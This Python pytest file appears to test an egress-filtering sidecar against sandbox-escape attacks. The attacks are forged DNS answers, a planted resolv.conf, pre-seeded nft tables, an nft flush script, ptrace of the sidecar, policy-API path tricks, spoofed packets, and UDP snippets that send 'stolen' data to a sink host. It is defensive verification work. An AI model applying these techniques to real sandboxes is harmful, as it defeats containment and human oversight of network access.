"""A sandbox that shares its network with a sidecar, with Docker's default capabilities: what that makes possible."""

from __future__ import annotations

import contextlib
import http.client
import re
import signal
import socket
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from lab import plan
from lab.accomplice import FORGERIES, Forgery, accomplice
from lab.flood_watch import starting
from lab.internet import Internet
from lab.processes import Child, wait_until
from lab.sandgate import allowing
from lab.sidecar import INSIDE4, INSIDE6, OUTSIDE4, OUTSIDE6, RAW, SharedNetwork, Sidecar, inside, sidecar
from lab.tool import binary

ATTACKS = Path(__file__).parent / "attacks" / "shared_namespace.py"


@pytest.fixture
def shared(internet: Internet, tmp_path: Path) -> Iterator[Sidecar]:
    with sidecar(internet, tmp_path) as made:
        yield made


@pytest.mark.attack(
    "T14",
    "answers the query of an enforcer in the same network, in the nameserver's name, with the right port, identifier and "
    "case, over loopback",
    stopped_by="kernel",
)
@pytest.mark.parametrize("forgery", FORGERIES, ids=str)
def test_forged_answer(internet: Internet, either: SharedNetwork, forgery: Forgery) -> None:
    """An accomplice outside tells everything that is random: only where the answer comes from is left to stop it."""

    def ask(name: str) -> str:
        inside = INSIDE6 if forgery.is_ipv6 else INSIDE4
        return partner.asked_under_forgery(forgery, name, inside, begin, either.run, str(ATTACKS))

    begin = starting(internet, either)
    with accomplice(internet, forgery.server) as partner:
        assert forgery.forged in ask("first.wild.example"), "it works without enforcement"
        either.start(allowing("*.wild.example"), DNS_UPSTREAM=forgery.server)
        output = ask("second.wild.example")
        assert forgery.forged not in output and forgery.honest in output, output


@pytest.mark.attack(
    "T7",
    "connects from every port that the enforcer dialled from in the same network, through its connection tracking entries",
    stopped_by="kernel",
)
@pytest.mark.slow
def test_stale_entries_of_connections(internet: Internet, either: SharedNetwork) -> None:
    low, high = 41000, 41149
    either.namespace.sysctl("net.ipv4.ip_local_port_range", f"{low} {high}")
    words = ("/usr/bin/python3", str(ATTACKS), "spray-tls", plan.SHARED4, str(low), str(high), plan.OTHER)
    assert either.run(*words, timeout=120).returncode == 0
    assert plan.OTHER in internet.web.hosts(), "it works without a sidecar"
    # The ports of the connections just now are free again only after a minute; those that are dialled next are others.
    low, high = 42000, 42149
    either.namespace.sysctl("net.ipv4.ip_local_port_range", f"{low} {high}")
    either.start(allowing(plan.ALLOWED))
    fetch = f"for n in $(seq 60); do curl -sS -4 -m 5 https://{plan.ALLOWED}/ >/dev/null; done"
    either.run("/bin/sh", "-c", fetch, timeout=120)
    assert len(internet.web.requests()) == 60
    with internet.capture(f"tcp and dst host {plan.SHARED4}", unenforced=True) as outside:
        either.run(
            "/usr/bin/python3", str(ATTACKS), "spray-tls", plan.SHARED4, str(low), str(high), plan.OTHER, timeout=300
        )
    assert plan.OTHER not in internet.web.hosts()
    assert plan.OTHER.encode() not in outside.payload
    assert not [line for line in outside.lines if "Flags [S]" in line], outside


@pytest.mark.attack(
    "T3",
    "writes a nameserver of its own into the /etc/resolv.conf that it shares with a sidecar, which then begins again",
    stopped_by="start",
)
@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
def test_nameserver_of_a_sidecar_that_begins_again(internet: Internet, shared: Sidecar, number: signal.Signals) -> None:
    """The containers of a pod share the file. Whoever answers for an allowed name chooses where it leads."""
    other = f"nameserver {plan.OTHER_DNS4}\n"

    def write(text: str) -> None:
        assert shared.run("/bin/sh", "-c", f"printf '{text}' > /etc/resolv.conf").returncode == 0

    def asked() -> set[str]:
        queries = {"first": internet.dns.queries(), "other": internet.other_dns.queries()}
        return {name for name, seen in queries.items() if any(query.name.lower() == plan.ALLOWED for query in seen)}

    # Whoever begins then asks it, where nobody remembers.
    write(other)
    shared.run("getent", "ahosts", plan.ALLOWED)
    assert asked() == {"other"}, "it works without a sidecar"
    write(f"nameserver {plan.DNS4}\n")
    shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM="")
    assert shared.reaches(plan.ALLOWED) and asked() == {"first"}, shared.log
    for text, words in (
        (other, f"names {plan.OTHER_DNS4}:53 now"),
        ("nameserver 127.0.0.1\n", "names 127.0.0.1:53 now"),
        ("", "names no DNS server now"),
    ):
        shared.end(number)
        write(text)
        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM="")
        assert shared.reaches(plan.ALLOWED) and asked() == {"first"}, shared.log
        assert words in shared.log
    # The operator's word holds, and is what is remembered then.
    for upstream in (plan.OTHER_DNS4, ""):
        shared.end(number)
        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM=upstream)
        assert shared.reaches(plan.ALLOWED) and asked() == {"other"}, shared.log


@contextlib.contextmanager
def left_before(shared: Sidecar, **variables: str) -> Iterator[None]:
    """What somebody leaves who can change the network before there is a sidecar, and runs one of his own: a table that looks the
    same. Meanwhile the next one to begin is his, with his key."""
    own = shared.audit
    shared.audit = shared.directory / "another's audit"
    shared.start(allowing(plan.ALLOWED), **variables)
    assert shared.reaches(plan.ALLOWED), shared.log
    shared.end(signal.SIGTERM)
    yield
    shared.audit = own


@pytest.mark.attack(
    "T3 T10a",
    "has left a table from before that looks like a sidecar's, and notes a nameserver that answers for it",
    stopped_by="start",
)
def test_nameserver_that_is_noted_from_before(internet: Internet, shared: Sidecar) -> None:
    with left_before(shared, DNS_UPSTREAM=plan.OTHER_DNS4):
        internet.forget()
        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM="")
        assert shared.reaches(plan.ALLOWED) and internet.other_dns.queries(), "who knows it for his own goes by it"
        shared.end(signal.SIGTERM)
    internet.forget()
    said = shared.refuses(allowing(plan.ALLOWED), DNS_UPSTREAM="")
    assert f"names {plan.DNS4}:53, and rules in this network name {plan.OTHER_DNS4}:53" in said, said
    assert not shared.reaches(plan.ALLOWED) and internet.other_dns.queries() == []
    # The operator's word holds, and from then on it is this one's own.
    for upstream in (plan.DNS4, ""):
        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM=upstream)
        assert shared.reaches(plan.ALLOWED), shared.log
        shared.end(signal.SIGTERM)
    assert internet.dns.queries() and internet.other_dns.queries() == []


@pytest.mark.attack(
    "T3 N3 T10a",
    "has left a table from before that looks like a sidecar's, with an address of its own pinned for an allowed name",
    stopped_by="start",
)
def test_pins_from_before(internet: Internet, shared: Sidecar) -> None:
    """Elements of a set may last as long as who makes them says."""
    pin = f"{{ {plan.DENIED4} timeout 20d comment \"{plan.ALLOWED}\" }}"

    def reaches_it() -> bool:
        with internet.capture(f"tcp and dst host {plan.DENIED4}", unenforced=True) as outside:
            shared.run("curl", "-sS", "-m", "5", "--resolve", f"{plan.ALLOWED}:443:{plan.DENIED4}", f"https://{plan.ALLOWED}/")
        return len(outside) > 0

    with left_before(shared):
        shared.namespace.check("nft", "add", "element", "inet", "sandgate", "pinned4", pin)
        shared.start(allowing(plan.ALLOWED))
        assert reaches_it(), "who knows it for his own goes by it"
        shared.end(signal.SIGTERM)
    shared.start(allowing(plan.ALLOWED))
    assert not reaches_it(), shared.log
    assert shared.reaches(plan.ALLOWED), shared.log


@pytest.mark.attack(
    "T12 T10a",
    "has left a table from before that looks like a sidecar's, and an entry by which what it sends looks like the answers of a "
    "connection that was let in",
    stopped_by="kernel",
)
def test_entry_from_before(internet: Internet, shared: Sidecar) -> None:
    entry = ("/usr/bin/python3", str(ATTACKS.parent / "prepare_network.py"), "entry", INSIDE4, "5555", plan.SINK4, "4444")
    script = (
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
        f"s.bind(('{INSIDE4}', 5555)); s.sendto(b'stolen by an entry', ('{plan.SINK4}', 4444))"
    )

    def sends() -> bool:
        internet.forget()
        shared.run("/usr/bin/python3", "-c", script)
        return "stolen by an entry" in internet.sinks.data()

    with left_before(shared):
        shared.namespace.check(*entry)
        shared.start(allowing(plan.ALLOWED))
        assert sends(), "who knows it for his own goes by it"
        shared.end(signal.SIGTERM)
    shared.start(allowing(plan.ALLOWED))
    assert not sends(), shared.log


@pytest.mark.attack(
    "T10 T10a", "has left a fence from before that looks like a sidecar's, and lets everything out", stopped_by="fence"
)
def test_fence_from_before(internet: Internet, shared: Sidecar) -> None:
    words = ("packet", "queue", INSIDE4, plan.SINK4, "4444", shared.namespace.neighbour(OUTSIDE4))

    def sends() -> bool:
        internet.forget()
        shared.run("/usr/bin/python3", str(ATTACKS), *words)
        return "stolen by a frame" in internet.sinks.data()

    with left_before(shared):
        assert not sends()
        found = re.search(r"chain (egress_\d+) ", shared.namespace.check("nft", "list", "table", "netdev", "sandgate"))
        assert found
        shared.namespace.check("nft", "insert", "rule", "netdev", "sandgate", found[1], "accept")
        shared.namespace.check("nft", "add", "chain", "netdev", "sandgate", found[1], "{ policy accept; }")
        more = '{ type filter hook egress device "eth0" priority -10; policy accept; accept; }'
        shared.namespace.check("nft", "add", "chain", "netdev", "sandgate", "more", more)
        assert sends(), "what it lets out"
    shared.start(allowing(plan.ALLOWED))
    assert not sends(), shared.log
    assert shared.reaches(plan.ALLOWED) and shared.reaches(plan.ALLOWED, "-6"), shared.log


@pytest.mark.honest("a sidecar that has lost its directory, and begins again under the same nameserver")
def test_sidecar_without_its_directory(internet: Internet, shared: Sidecar) -> None:
    """Its audit trail may be in memory (--tmpfs), and ends with the container."""
    for number in range(3):
        shared.audit = shared.directory / f"audit {number}"
        shared.start(allowing(plan.ALLOWED), DNS_UPSTREAM="")
        assert shared.reaches(plan.ALLOWED) and not shared.reaches(plan.DENIED), shared.log
        shared.end(signal.SIGKILL)


DOCKERS = "+chown,+dac_override,+fowner,+fsetid,+kill,+setgid,+setuid,+setpcap,+net_bind_service,+net_raw,+sys_chroot,+mknod"


@pytest.mark.attack(
    "T13",
    "sees the sidecar's processes (shareProcessNamespace of a pod), and traces, reads and takes descriptors from each of its threads",
    stopped_by="capabilities",
)
def test_threads_of_a_sidecar(internet: Internet, shared: Sidecar) -> None:
    """Root as the sidecar is; some of its threads have no capability that this root has not. What is left it can do to any process
    of its own user: to count its descriptors, to stop it, or let it open no more files, with which nothing opens."""
    confined = ("setpriv", f"--bounding-set=-all,{DOCKERS}", f"--inh-caps=-all,{DOCKERS}", "/usr/bin/python3")
    guard = (*confined, str(ATTACKS.parent / "guard.py"))
    forbidden = {"ptrace", "pidfd_getfd", "mem", "environ", "namespace", "root"}

    def did(pid: int) -> set[str]:
        threads = sorted(path.name for path in Path(f"/proc/{pid}/task").iterdir())
        done = subprocess.run(shared.namespace.command(*guard, *threads), capture_output=True, text=True, timeout=60)
        assert "tried everything" in done.stdout, done
        return {line.split()[1] for line in done.stdout.splitlines() if line.startswith("did ")}

    other = Child(shared.namespace.command(*confined, "-c", "import time; print('up', flush=True); time.sleep(60)"), "up")
    try:
        assert forbidden <= did(other.process.pid), "what root can do to root"
    finally:
        other.stop()
    shared.start(allowing(plan.ALLOWED), TOKEN="secret")
    assert shared.process is not None
    assert not forbidden & did(shared.process.pid)
    assert shared.reaches(plan.ALLOWED), shared.log


@pytest.mark.attack("T5", "is shared with a sidecar that has no CAP_NET_ADMIN", stopped_by="start")
def test_sidecar_without_privilege(internet: Internet, shared: Sidecar, tmp_path: Path) -> None:
    environment = {"SANDGATE_AUDIT_DIR": str(tmp_path / "a"), "OPENSANDBOX_EGRESS_DNS_UPSTREAM": plan.DNS4}
    done = subprocess.run(
        shared.namespace.command(*RAW, str(binary()), "sidecar"),
        env=environment,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode != 0 and "CAP_NET_ADMIN" in done.stderr, done


@pytest.mark.attack(
    "T6",
    "flushes and changes the sidecar's rules, also as root of a user namespace of its own",
    stopped_by="capabilities",
)
@pytest.mark.parametrize("prefix", [(), ("unshare", "--user", "--map-root-user")], ids=["root", "user namespace"])
def test_rules_of_a_sidecar(internet: Internet, shared: Sidecar, prefix: tuple[str, ...]) -> None:
    script = (
        "nft flush ruleset; nft delete table inet sandgate; nft add table inet mine; ip link set lo down;"
        f" ip route replace default via {OUTSIDE4}; ip rule add from all lookup main; sysctl -w net.ipv4.ip_forward=1"
    )
    shared.start(allowing(plan.ALLOWED))
    before = shared.namespace.check("nft", "list", "tables")
    shared.run(*prefix, "/bin/sh", "-c", script)
    assert shared.namespace.check("nft", "list", "tables") == before
    assert shared.reaches(plan.ALLOWED) and not shared.reaches(plan.DENIED)
    assert not shared.reaches(plan.DENIED, "--resolve", f"{plan.DENIED}:443:{plan.DENIED4}")


@pytest.mark.attack(
    "T2",
    "asks the sidecar for its metrics and for paths of every kind, and posts policies under each",
    stopped_by="control API",
)
@pytest.mark.parametrize("host", ["127.0.0.1", "[::1]", INSIDE4, f"[{INSIDE6}]", "[::ffff:127.0.0.1]", "127.9.9.9"])
def test_paths_of_the_sidecar(internet: Internet, shared: Sidecar, host: str) -> None:
    shared.start(allowing(plan.ALLOWED))
    opened = ("-d", '{"defaultAction":"allow"}')
    for path in (
        "/policy",
        "/policy/",
        "//policy",
        "/./policy",
        "/%70olicy",
        "/policy?x",
        "/policy#x",
        "/POLICY",
        "/x/../policy",
    ):
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            status = shared.ask(method, "--path-as-is", *opened, f"http://{host}:18080{path}")
            assert status in ("000", "400", "401", "403", "404", "405"), (method, path, status)
    for path in ("/metrics", "/debug", "/v1/sandboxes", "/"):
        assert shared.ask("GET", f"http://{host}:18080{path}") in ("000", "401", "403", "404"), path
    override = (
        "-H",
        "X-Forwarded-For: 10.81.0.1",
        "-H",
        "X-HTTP-Method-Override: GET",
        "-H",
        "X-Original-URL: /healthz",
    )
    assert shared.ask("POST", *override, *opened, f"http://{host}:18080/policy") in ("000", "401", "403")
    assert shared.policy()["defaultAction"] == "deny"


LISTENING = f"""\
import socket, sys
listener = socket.create_server(("{INSIDE4}", 18080))
print("listening", flush=True)
connection = listener.accept()[0]
with open(sys.argv[1], "ab", 0) as heard:
    while data := connection.recv(65536):
        heard.write(data)
        if b"healthz" in data: connection.sendall(b"HTTP/1.1 200 OK\\r\\ncontent-length: 2\\r\\n\\r\\nok")
"""
OPENING = b'{"defaultAction":"allow"}'


@contextlib.contextmanager
def kept_connection(internet: Internet, shared: Sidecar, way: str) -> Iterator[http.client.HTTPConnection]:
    """A connection from outside to the policy API, on which something was asked and the sandbox has gone on."""
    request = b"POST /policy HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (len(OPENING), OPENING)
    command = ("/usr/bin/python3", str(ATTACKS), "inject", way, INSIDE4, "18080", request.hex())
    watcher = subprocess.Popen(shared.command(*command), stdout=subprocess.PIPE, text=True)
    assert watcher.stdout is not None and watcher.stdout.readline() == "watching\n"
    connection = http.client.HTTPConnection(INSIDE4, 18080, timeout=10)
    with inside(internet.namespace.name):
        connection.sock = socket.create_connection((INSIDE4, 18080), 5)
    with contextlib.closing(connection):
        connection.request("GET", "/healthz")
        assert connection.getresponse().read() == b"ok"
        output, _ = watcher.communicate(timeout=20)
        assert f"sent in the name of {OUTSIDE4}" in output, output
        yield connection


@pytest.mark.attack(
    "T2 T12",
    "goes on with a connection that somebody outside has to the sidecar's policy API, in his name and with packets made by hand, to "
    "open itself",
    stopped_by="kernel",
)
@pytest.mark.parametrize("way", ["raw", "frame"])
def test_request_in_the_name_of_who_is_outside(internet: Internet, shared: Sidecar, tmp_path: Path, way: str) -> None:
    """Who comes from outside is asked for no token where none is configured, and may change the policy where who comes from inside
    may not. The numbers of the connection can be read with a packet socket."""
    heard = tmp_path / "heard"
    server = Child(shared.namespace.command("/usr/bin/python3", "-c", LISTENING, str(heard)), "listening")
    try:
        with kept_connection(internet, shared, way):
            wait_until(lambda: OPENING in heard.read_bytes(), "what the sandbox said, without a sidecar")
    finally:
        server.stop()
    shared.start(allowing(plan.ALLOWED), SANDGATE_READ_ONLY_FROM_INSIDE="true")
    with kept_connection(internet, shared, way) as connection:
        assert shared.policy()["defaultAction"] == "deny", shared.log
        # The connection is still his, and what is asked later is answered later.
        connection.request("GET", "/policy")
        assert b'"defaultAction":"deny"' in connection.getresponse().read(), shared.log
    assert not shared.reaches(plan.DENIED) and shared.policy()["defaultAction"] == "deny", shared.log


@pytest.mark.attack(
    "T2 T12", "begins a connection to the sidecar's policy API in the name of somebody outside", stopped_by="kernel"
)
@pytest.mark.parametrize("family", ["ipv4", "ipv6"])
def test_connection_in_the_name_of_who_is_outside(internet: Internet, shared: Sidecar, family: str) -> None:
    """CAP_NET_RAW is enough to send from every address (IP_TRANSPARENT). The answer goes to whose address it is."""
    inside4 = family == "ipv4"
    (own, outer), level, option = ((INSIDE4, OUTSIDE4), 0, 19) if inside4 else ((INSIDE6, OUTSIDE6), 41, 75)
    begin = (
        f"import socket; s = socket.socket(socket.{'AF_INET' if inside4 else 'AF_INET6'})\n"
        f"s.setsockopt({level}, {option}, 1); s.settimeout(1); s.bind(('{outer}', 0))\n"
        f"try: s.connect(('{own}', 18080))\n"
        "except OSError as error: print(error)\n"
    )

    def is_answered() -> bool:
        with internet.capture(f"src host {own} and tcp src port 18080", unenforced=True) as outside:
            assert shared.run("/usr/bin/python3", "-c", begin).returncode == 0
        return any("Flags [S.]" in line for line in outside.lines)

    server = Child(shared.namespace.command("/usr/bin/python3", "-u", "-m", "http.server", "18080", "-b", own), "Serving")
    try:
        assert is_answered(), "it works without a sidecar"
    finally:
        server.stop()
    shared.start(allowing(plan.ALLOWED))
    assert not is_answered()
    assert shared.is_healthy()


@pytest.mark.attack("T12", "answers a datagram that came from outside, and goes on sending", stopped_by="kernel")
@pytest.mark.parametrize("family", ["ipv4", "ipv6"])
def test_answers_to_datagrams_from_outside(internet: Internet, shared: Sidecar, family: str) -> None:
    """An entry that a packet from outside made would let the sandbox's packets pass as answers."""
    inside, outside = (INSIDE4, OUTSIDE4) if family == "ipv4" else (INSIDE6, "fd81::1")
    answer = (
        "import socket, sys\n"
        f"s = socket.socket(socket.{'AF_INET' if family == 'ipv4' else 'AF_INET6'}, socket.SOCK_DGRAM)\n"
        f"s.bind(('{inside}', 9999)); s.settimeout(2); print('bound', flush=True)\n"
        "try: print(s.recvfrom(100), flush=True)\n"
        "except TimeoutError: print('nothing', flush=True)\n"
        f"try: print(s.sendto(b'an answer', ('{outside}', 7777)))\n"
        "except OSError as error: print(error)\n"
    )
    listen = answer.replace(f"'{inside}', 9999", f"'{outside}', 7777").split("try: print(s.sendto")[0]
    send = f"s.sendto(b'from outside', ('{inside}', 9999))\n"
    listen = listen.replace("print('bound', flush=True)\n", f"print('bound', flush=True)\n{send}")

    def exchange() -> str:
        python = ("/usr/bin/python3", "-c")
        inner = subprocess.Popen(shared.command(*python, answer), stdout=subprocess.PIPE, text=True)
        assert inner.stdout is not None and inner.stdout.readline() == "bound\n"
        outer = subprocess.run(internet.namespace.command(*python, listen), capture_output=True, text=True, timeout=30)
        inner.communicate(timeout=30)
        return outer.stdout

    assert "an answer" in exchange(), "it works without a sidecar"
    shared.start({"defaultAction": "allow"})
    assert "an answer" not in exchange()
